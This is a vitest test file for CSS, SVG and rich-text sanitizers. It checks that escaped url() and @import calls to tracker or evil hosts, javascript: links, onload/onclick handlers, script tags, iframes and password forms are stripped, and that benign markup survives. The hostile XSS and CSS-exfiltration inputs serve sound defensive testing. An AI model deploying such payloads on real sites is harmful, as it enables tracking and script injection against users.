import { describe, expect, it } from 'vitest';
import { isUnsafeCss, unescapeCss } from './css';
import { sanitizeRichText } from './rich-text';
import { sanitizeSvg, SvgRefusedError } from './svg';

const svg = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">${inner}</svg>`;

describe('CSS that reaches outside the document', () => {
  it('is read with its escapes decoded, as a browser reads it', () => {
    expect(unescapeCss('\\75 rl(')).toBe('url(');
    expect(unescapeCss('\\000075rl(')).toBe('url(');
    expect(unescapeCss('\\u\\r\\l(')).toBe('url(');
    expect(unescapeCss('@\\69 mport')).toBe('@import');
    expect(unescapeCss('a\\\nb')).toBe('ab');
    expect(unescapeCss('\\0 x')).toBe('\uFFFDx');
  });

  it('flags external url(), @import and expressions however they are written, and lets local references pass', () => {
    for (const css of [
      'fill: url(https://tracker.example/p.png)',
      'fill: \\75 rl(https://tracker.example/p.png)',
      'fill: U\\52L( "//tracker.example/p.png" )',
      '@import "https://evil.example/x.css";',
      '@\\69 mport url(x.css);',
      'background: image-set("https://evil.example/a.png" 1x)',
      'width: expression(alert(1))',
      'fill: url(/**/http://evil.example/x)',
      'fill: url("javascript:alert(1)")',
    ])
      expect(isUnsafeCss(css), css).toBe(true);
    for (const css of [
      'fill: url(#grad)',
      "fill:url('#g') ; stroke: #c33",
      '.a { fill: red } .b { stroke-width: 2 }',
    ])
      expect(isUnsafeCss(css), css).toBe(false);
  });
});

describe('sanitizeSvg', () => {
  it('drops a <style> that loads anything, also through a CSS escape, and keeps a benign one', () => {
    const escaped = sanitizeSvg(
      svg('<style>.a{fill:\\75 rl(https://tracker.example/p.png)}</style><rect class="a"/>'),
    );
    expect(escaped).not.toContain('tracker.example');
    expect(escaped).not.toContain('<style');
    expect(escaped).toContain('<rect class="a"/>');

    const imported = sanitizeSvg(
      svg('<style>@import url(https://evil.example/x.css); .a{fill:red}</style><rect/>'),
    );
    expect(imported).not.toMatch(/@import|evil\.example/);
    const escapedImport = sanitizeSvg(
      svg('<style>@\\69mport "https://evil.example/x.css";</style><rect/>'),
    );
    expect(escapedImport).not.toContain('evil.example');
    const cdata = sanitizeSvg(
      svg('<style><![CDATA[ .b { fill: url(//evil.example/x) } ]]></style><rect/>'),
    );
    expect(cdata).not.toContain('evil.example');

    const benign = sanitizeSvg(
      svg('<style>.a { fill: #c33 } .b { fill: url(#g) }</style><rect class="a"/>'),
    );
    expect(benign).toContain('<style>.a { fill: #c33 } .b { fill: url(#g) }</style>');
  });

  it('drops attributes with external url(), in style and presentation attributes alike', () => {
    const out = sanitizeSvg(
      svg(
        '<linearGradient id="g"/><rect fill="url(#g)" stroke="url(https://evil.example/s)" style="fill:\\75 rl(//evil.example/f)" filter="url( http://evil.example/#f )"/>',
      ),
    );
    expect(out).not.toContain('evil.example');
    expect(out).toContain('fill="url(#g)"');
  });

  it('keeps only local links, and raster data images on <image>', () => {
    const out = sanitizeSvg(
      svg(
        '<use href="#a"/><use href="https://evil.example/sprite.svg#a"/><use xlink:href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" xmlns:xlink="http://www.w3.org/1999/xlink"/>' +
          '<image href="data:image/png;base64,iVBORw0KGgo="/><image href="https://tracker.example/p.png"/>',
      ),
    );
    expect(out).toContain('<use href="#a"/>');
    expect(out).not.toMatch(/evil\.example|svg\+xml|tracker\.example|onload/);
    expect(out).toContain('href="data:image/png;base64,iVBORw0KGgo="');
  });

  it('writes well-formed XML that an XML parser reads back', () => {
    const out = sanitizeSvg(
      svg(
        '<text>Cà phê&#160;&amp; trà &lt;3</text><linearGradient id="g"><stop offset="1"/></linearGradient>',
      ),
    );
    expect(out).toContain('<linearGradient id="g"><stop offset="1"/></linearGradient>');
    expect(out).toContain('Cà phê\u00a0&amp; trà &lt;3');
    expect(sanitizeSvg(out)).toBe(out);
  });

  it('refuses entity declarations, broken XML and other roots', () => {
    for (const input of [
      '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg>&a;</svg>',
      '<svg><g></svg>',
      '<html><svg/></html>',
      '<svg>&nbsp;</svg>',
      '<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>',
    ])
      expect(() => sanitizeSvg(input), input).toThrow(SvgRefusedError);
  });
});

describe('sanitizeRichText', () => {
  it('drops scripts, event handlers and javascript: links', () => {
    const out = sanitizeRichText(
      '<p onclick="steal()">Xin chào<script>alert(1)</script></p><img src="/a.png" onerror="alert(1)"><a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="java&#x09;script:alert(3)">c</a><iframe src="https://evil.example"></iframe><svg><script>alert(4)</script></svg>',
    );
    expect(out).not.toMatch(/script|onclick|onerror|alert|iframe|evil\.example/i);
    expect(out).toContain('<p>Xin chào</p>');
    expect(out).toContain('<img src="/a.png">');
  });

  it('keeps benign markup', () => {
    const html =
      '<h2>Cà phê sữa đá</h2><p style="text-align: center">Một <strong>ly</strong> <em>ngon</em>, <u>đậm</u> <a href="https://example.com/menu">thực đơn</a>.</p>' +
      '<ul><li>Một</li><li>Hai</li></ul><ol><li>Ba</li></ol><blockquote>Trích dẫn</blockquote><table><tbody><tr><td>1</td></tr></tbody></table><img src="/api/v1/media/files/2026/11/abc.webp" alt="ảnh">';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('drops a style attribute that loads anything, forms, and lets a new tab not reach back', () => {
    const out = sanitizeRichText(
      '<p style="background: \\75 rl(https://tracker.example/p.png)">a</p><form action="https://evil.example"><input name="password"></form><a href="https://example.com" target="_blank">b</a>',
    );
    expect(out).not.toMatch(/tracker|evil|form|input/);
    expect(out).toContain('<p>a</p>');
    expect(out).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">b</a>',
    );
  });
});
